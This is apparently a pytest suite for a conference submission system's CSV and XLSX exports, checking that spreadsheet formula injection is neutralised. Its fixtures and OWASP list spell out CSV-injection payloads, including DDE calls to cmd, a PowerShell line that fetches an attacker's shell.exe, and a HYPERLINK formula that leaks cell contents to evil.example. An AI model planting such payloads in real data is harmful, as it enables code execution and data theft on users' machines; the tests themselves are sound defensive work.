"""CSV and XLSX exports of the organiser's list."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cfp.exports import export_csv, export_xlsx, neutralise
from cfp.models import Submission, SubmissionState
from tests.factories import (
    AuthorshipFactory,
    ConferenceFactory,
    ContributionTypeFactory,
    CustomAnswerFactory,
    CustomQuestionFactory,
    GuidingQuestionFactory,
    SubmissionFactory,
    SubmissionFileFactory,
    ThemeFactory,
)

pytestmark = pytest.mark.django_db


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(content: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.fixture
def submission(conference):
    talk = ContributionTypeFactory(conference=conference, name="Paper")
    theme = ThemeFactory(conference=conference, title="Identities")
    question = GuidingQuestionFactory(conference=conference, text="Who decides?")
    submission = SubmissionFactory(
        conference=conference,
        number=7,
        title="ເສັ້ນທາງ",
        contribution_type=talk,
        keywords=["migration", "ຄົນເຂົ້າເມືອງ"],
        themes=[theme],
        guiding_questions=[question],
        ethics_statement="Oral consent; no names kept.",
    )
    AuthorshipFactory(
        submission=submission,
        full_name="မောင်မောင်",
        email="maung@example.org",
        affiliation="Yangon University",
        country="MM",
        orcid="0000-0002-1825-0097",
        is_presenter=True,
        order=0,
    )
    AuthorshipFactory(
        submission=submission,
        full_name="Lan Nguyen",
        email="lan@example.org",
        affiliation="",
        country="VN",
        order=1,
        public_name=False,
        is_corresponding=True,
    )
    CustomAnswerFactory(
        submission=submission,
        question=CustomQuestionFactory(conference=conference, text="Funding?"),
        value="None",
    )
    SubmissionFileFactory(submission=submission, version=1, page_count=10)
    SubmissionFileFactory(submission=submission, version=2, page_count=12)
    SubmissionFileFactory(submission=submission, kind="supplementary", version=1, page_count=4)
    return submission


EXPECTED_HEADER = [
    "Number",
    "State",
    "Contribution type",
    "Title",
    "Abstract",
    "Authors",
    "Emails",
    "Affiliations",
    "Countries",
    "ORCID iDs",
    "Presenter",
    "Corresponding author",
    "Keywords",
    "Themes",
    "Guiding questions",
    "Ethics statement",
    "Funding?",
    "Submitted at (Asia/Bangkok)",
    "Latest paper version",
    "Pages",
    "Latest supplementary file version",
]


def test_csv_has_a_bom_a_header_and_one_row_per_submission(conference, submission):
    rows = csv_rows(export_csv(Submission.objects.for_organisers_of(conference), conference))

    assert rows == [
        EXPECTED_HEADER,
        [
            "7",
            "Submitted",
            "Paper",
            "ເສັ້ນທາງ",
            "Migrants' own words about categorisation.",
            "မောင်မောင် (Yangon University, MM); Lan Nguyen (VN) [name not public]",
            "maung@example.org; lan@example.org",
            "Yangon University; —",
            "MM; VN",
            "0000-0002-1825-0097; —",
            "မောင်မောင်",
            "Lan Nguyen",
            "migration; ຄົນເຂົ້າເມືອງ",
            "Identities",
            "Who decides?",
            "Oral consent; no names kept.",
            "None",
            # REFERENCE_NOW minus a day, 12:00 UTC, is 19:00 in Bangkok.
            "2026-05-31 19:00",
            "2",
            "12",
            "1",
        ],
    ]


def test_xlsx_has_the_same_cells(conference, submission):
    rows = xlsx_rows(export_xlsx(Submission.objects.for_organisers_of(conference), conference))

    assert rows[0] == EXPECTED_HEADER
    assert rows[1][:4] == [7, "Submitted", "Paper", "ເສັ້ນທາງ"]
    assert rows[1][-3:] == [2, 12, 1]
    assert len(rows) == 2


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil")', '\'=HYPERLINK("http://evil")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain", "plain"),
        (12, 12),
    ],
)
def test_neutralise_prefixes_formula_starts(value, expected):
    assert neutralise(value) == expected


def hostile_submission(conference):
    submission = SubmissionFactory(
        conference=conference,
        title="=cmd|' /C calc'!A0",
        abstract="<script>alert(1)</script>",
        ethics_statement="=1+2",
        keywords=["+evil", "@sum"],
    )
    AuthorshipFactory(submission=submission, full_name="-2+3", affiliation="=1+1")
    CustomAnswerFactory(submission=submission, value='=HYPERLINK("javascript:alert(1)")')
    return submission


def test_formulas_are_neutralised_in_csv(conference):
    hostile_submission(conference)

    row = csv_rows(export_csv(Submission.objects.for_organisers_of(conference), conference))[1]

    assert row[3] == "'=cmd|' /C calc'!A0"
    assert row[5] == "'-2+3 (=1+1, TH)"
    assert row[7] == "'=1+1"  # affiliations
    assert row[12] == "'+evil; @sum"
    assert row[15] == "'=1+2"  # ethics statement
    assert row[16] == '\'=HYPERLINK("javascript:alert(1)")'
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_formulas_are_never_formulas_in_xlsx(conference):
    hostile_submission(conference)

    content = export_xlsx(Submission.objects.for_organisers_of(conference), conference)
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert all(cell.data_type != "f" for cell in cells)
    assert sheet["D2"].value == "'=cmd|' /C calc'!A0"
    assert sheet["Q2"].value == '\'=HYPERLINK("javascript:alert(1)")'


def test_xlsx_drops_control_characters_it_cannot_store(conference):
    SubmissionFactory(conference=conference, title="Bell\x07 and form\x0cfeed")

    rows = xlsx_rows(export_xlsx(Submission.objects.for_organisers_of(conference), conference))

    assert rows[1][3] == "Bell and formfeed"


# --- through the views ------------------------------------------------------------------------


def export_url(conference, fmt, **params):
    from urllib.parse import urlencode

    url = reverse(f"cfp:organiser_submissions_{fmt}", kwargs={"conference": conference.slug})
    return url + ("?" + urlencode(params) if params else "")


def test_csv_download_is_an_attachment_with_a_safe_name(organiser_client, conference, frozen_now):
    response = organiser_client.get(export_url(conference, "csv"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{conference.slug}-submissions-20260601-1900.csv"'
    )


def test_xlsx_download_is_an_attachment(organiser_client, conference, frozen_now):
    response = organiser_client.get(export_url(conference, "xlsx"))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Content-Disposition"] == (
        f'attachment; filename="{conference.slug}-submissions-20260601-1900.xlsx"'
    )


def test_export_follows_the_lists_filters_and_never_shows_drafts(organiser_client, conference):
    theme = ThemeFactory(conference=conference)
    SubmissionFactory(conference=conference, title="In theme", themes=[theme])
    SubmissionFactory(conference=conference, title="Elsewhere")
    SubmissionFactory(
        conference=conference, title="Draft", themes=[theme], state=SubmissionState.DRAFT
    )
    SubmissionFactory(conference=ConferenceFactory(), title="Other conference")

    filtered = csv_rows(organiser_client.get(export_url(conference, "csv", theme=theme.pk)).content)
    everything = csv_rows(organiser_client.get(export_url(conference, "csv", state="all")).content)

    assert [row[3] for row in filtered[1:]] == ["In theme"]
    assert sorted(row[3] for row in everything[1:]) == ["Elsewhere", "In theme"]


# Session, user, conference, organiser, MFA (5); filter form countries (1); questions (1);
# submissions (1) with authors, themes, guiding questions, answers, paper files,
# supplementary files (6).
EXPORT_QUERIES = 14


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("n", [1, 30])
def test_export_query_count_does_not_grow(
    organiser_client, conference, django_assert_num_queries, fmt, n
):
    themes = ThemeFactory.create_batch(2, conference=conference)
    questions = GuidingQuestionFactory.create_batch(2, conference=conference)
    custom = CustomQuestionFactory(conference=conference)
    for _ in range(n):
        submission = SubmissionFactory(
            conference=conference, themes=themes, guiding_questions=questions
        )
        AuthorshipFactory.create_batch(3, submission=submission)
        SubmissionFileFactory.create_batch(2, submission=submission)
        CustomAnswerFactory(submission=submission, question=custom)

    with django_assert_num_queries(EXPORT_QUERIES):
        response = organiser_client.get(export_url(conference, fmt))

    assert response.status_code == 200


# --- the OWASP CSV-injection list, in both formats ---------------------------------------------

OWASP_PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tcmd",
    "\rcmd",
    " =1+1",
    "   @SUM(1+1)",
    "\x01=1+1",
    "\x00=1+1",
    "\x1b+1",
    "\x7f-1",
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "\u202e=1+1",  # right-to-left override
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    " \x02 ＝cmd|' /C calc'!A0",
    "﹦1+1",
    "\u22121+1",  # minus sign
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_payload_is_neutralised(payload):
    assert neutralise(payload) == "'" + payload


# PostgreSQL stores no NUL in text; the unit test above covers it.
@pytest.mark.parametrize("payload", [p for p in OWASP_PAYLOADS if "\x00" not in p])
def test_owasp_payloads_are_neutralised_in_csv_and_xlsx(conference, payload):
    SubmissionFactory(conference=conference, title=payload)
    AuthorshipFactory(submission=Submission.objects.get(conference=conference), affiliation=payload)
    queryset = Submission.objects.for_organisers_of(conference)

    csv_row = csv_rows(export_csv(queryset, conference))[1]
    xlsx_row = xlsx_rows(export_xlsx(queryset, conference))[1]

    assert csv_row[3] == "'" + payload
    assert csv_row[7].startswith("'")
    # XLSX drops the characters XML cannot store, then prefixes what is left.
    from cfp.exports import _ILLEGAL_XML

    # (XML reads a stored CR back as LF.)
    assert xlsx_row[3] == ("'" + _ILLEGAL_XML.sub("", payload)).replace("\r", "\n")
    assert xlsx_row[7].startswith("'")


@pytest.mark.parametrize(
    "value", ["plain", "Anh ngữ", "a=b", "1-2 June", "mail@example.org", " leading space", ""]
)
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value
